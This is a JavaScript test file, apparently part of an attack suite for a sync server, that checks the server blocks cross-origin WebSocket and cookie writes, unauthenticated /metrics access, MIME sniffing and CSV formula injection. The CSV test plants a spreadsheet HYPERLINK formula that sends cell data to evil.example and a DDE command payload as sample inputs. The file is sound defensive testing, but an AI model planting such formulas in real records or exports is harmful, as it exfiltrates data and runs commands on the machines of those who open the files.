// The attack suite, the web edge: what a hostile web page or a curious
// client can try over plain HTTP — riding a signed-in browser's cookie from
// another origin (on /sync and on writes), reading /metrics, having a
// response sniffed as another type, and planting a spreadsheet formula in a
// record for head office's CSV export.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { test } from "node:test";
import {
  METRICS_TOKEN,
  api,
  client,
  healthyWithinASecond,
  metrics,
  newRecord,
  openSocket,
  s,
  shutdown,
  startAttackServer,
  stored,
  waitFor,
} from "./attack_support.mjs";
import { tokenFor } from "./support.mjs";

const EVIL = "https://evil.example";

/** The cells of one CSV line (RFC 4180 quoting). */
function csvCells(line) {
  const cells = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i];
    if (quoted && ch === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (ch === "," && !quoted) {
      cells.push(cell);
      cell = "";
    } else {
      cell += ch;
    }
  }
  cells.push(cell);
  return cells;
}

/** The status of a GET with a bearer token (the body is not JSON). */
async function statusOf(url, token, path) {
  const r = await fetch(url + path, { headers: { authorization: `Bearer ${token}` } });
  await r.arrayBuffer();
  return r.status;
}

test("web: foreign origins, metrics without the token, sniffing and CSV formulas get nowhere", { timeout: 120_000 }, async (t) => {
  const server = await startAttackServer("closeloop-attacks-web-");
  const { url } = server;
  const clients = [];
  try {
    const office = await tokenFor(url, "office");
    const north = await client(url, "field-north");
    clients.push(north);
    const cookie = { cookie: `closeloop_session=${north.token}` };

    await t.test("a WebSocket to /sync from a foreign origin", async () => {
      const before = await stored(url, office);
      const connections = (await metrics(url)).closeloop_connections;
      for (const [how, options] of [
        ["with the session cookie", { headers: cookie, origin: EVIL }],
        ["with the token in the query", { token: north.token, origin: EVIL }],
      ]) {
        const r = await openSocket(url, options);
        assert.equal(r.status, 403, `${how}: ${r.body}`);
        assert.match(r.body, /cross_site/, how);
      }
      await healthyWithinASecond(url, "a cross-site socket");
      assert.equal((await metrics(url)).closeloop_connections, connections, "no socket was opened");
      assert.deepEqual(await stored(url, office), before, "nothing stored");
      // Control: the server's own origin is let in.
      const own = await openSocket(url, { headers: cookie, origin: url });
      assert.equal(own.status, 101);
      own.ws.close();
    });

    await t.test("a cookie-authenticated write from a foreign origin", async () => {
      const before = await stored(url, office);
      // Signing the victim out (a write with only the cookie to go on).
      const out = await fetch(url + "/api/logout", { method: "POST", headers: { ...cookie, origin: EVIL } });
      assert.equal(out.status, 403);
      assert.match(await out.text(), /cross_site/);
      assert.equal((await fetch(url + "/api/me", { headers: cookie })).status, 200, "the session survived");
      // Uploading into the victim's account.
      const body = new TextEncoder().encode(`cross-site upload ${Date.now()}`);
      const sha = createHash("sha256").update(body).digest("hex");
      const upload = await fetch(url + "/api/attachments", {
        method: "POST",
        headers: { ...cookie, origin: EVIL, "content-type": "image/png" },
        body,
      });
      assert.equal(upload.status, 403);
      assert.equal(await statusOf(url, north.token, `/api/attachments/${sha}`), 404, "no blob stored");
      await healthyWithinASecond(url, "a cross-site write");
      assert.deepEqual(await stored(url, office), before, "nothing stored");
      assert.equal(north.closed, null, "the victim's sync socket is untouched");
      // Control: the same upload from the own origin is stored.
      const own = await fetch(url + "/api/attachments", {
        method: "POST",
        headers: { ...cookie, origin: url, "content-type": "image/png" },
        body,
      });
      assert.equal(own.status, 201);
      assert.equal(await statusOf(url, north.token, `/api/attachments/${sha}`), 200);
    });

    await t.test("/metrics without the token", async () => {
      for (const [how, headers] of [
        ["without a token", {}],
        ["with a wrong token", { authorization: "Bearer guessed" }],
        ["with a session token", { authorization: `Bearer ${office}` }],
        ["with the session cookie", cookie],
      ]) {
        const r = await fetch(url + "/metrics", { headers });
        assert.equal(r.status, 401, how);
        assert.doesNotMatch(await r.text(), /closeloop_/, `${how}: nothing of the metrics`);
      }
      const ok = await fetch(url + "/metrics", { headers: { authorization: `Bearer ${METRICS_TOKEN}` } });
      assert.equal(ok.status, 200);
    });

    await t.test("API responses are not sniffed as another type", async () => {
      const id = "2".repeat(22);
      for (const [path, headers, status] of [
        ["/api/me", { authorization: `Bearer ${office}` }, 200],
        ["/api/records", { authorization: `Bearer ${office}` }, 200],
        ["/api/documents?after=0", { authorization: `Bearer ${office}` }, 200],
        [`/api/records/${id}`, { authorization: `Bearer ${office}` }, 404],
        ["/api/me", {}, 401],
        ["/metrics", {}, 401],
        ["/healthz", {}, 200],
      ]) {
        const r = await fetch(url + path, { headers });
        assert.equal(r.status, status, path);
        assert.equal(r.headers.get("x-content-type-options"), "nosniff", `${path} (${status})`);
        await r.arrayBuffer();
      }
    });

    await t.test("a CSV export of a record whose customer name is a formula", async () => {
      const formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
      const planted = north.repo.create(newRecord("field-north", { customer: s(formula), description: "@SUM(1+1)*cmd|' /C calc'!A0" }));
      await waitFor("the record to be stored", async () => (await api(url, office, `/api/records/${planted.documentId}`)).status === 200);
      const r = await fetch(url + "/api/records/export.csv", { headers: { authorization: `Bearer ${office}` } });
      assert.equal(r.status, 200);
      assert.equal(r.headers.get("x-content-type-options"), "nosniff");
      const csv = await r.text();
      const line = csv.split("\n").find((l) => l.includes("HYPERLINK"));
      assert.ok(line, csv.slice(0, 2000));
      // Every cell that held a formula now starts with `'`: text, not a formula.
      const cells = csvCells(line.replace(/\r$/, ""));
      assert.ok(cells.includes(`'${formula}`), line);
      assert.ok(cells.includes("'@SUM(1+1)*cmd|' /C calc'!A0"), line);
      assert.ok(!cells.some((c) => /^[=+\-@\t\r]/.test(c)), `no cell starts a formula: ${line}`);
    });
  } finally {
    await shutdown(clients);
    await server.stop();
  }
});
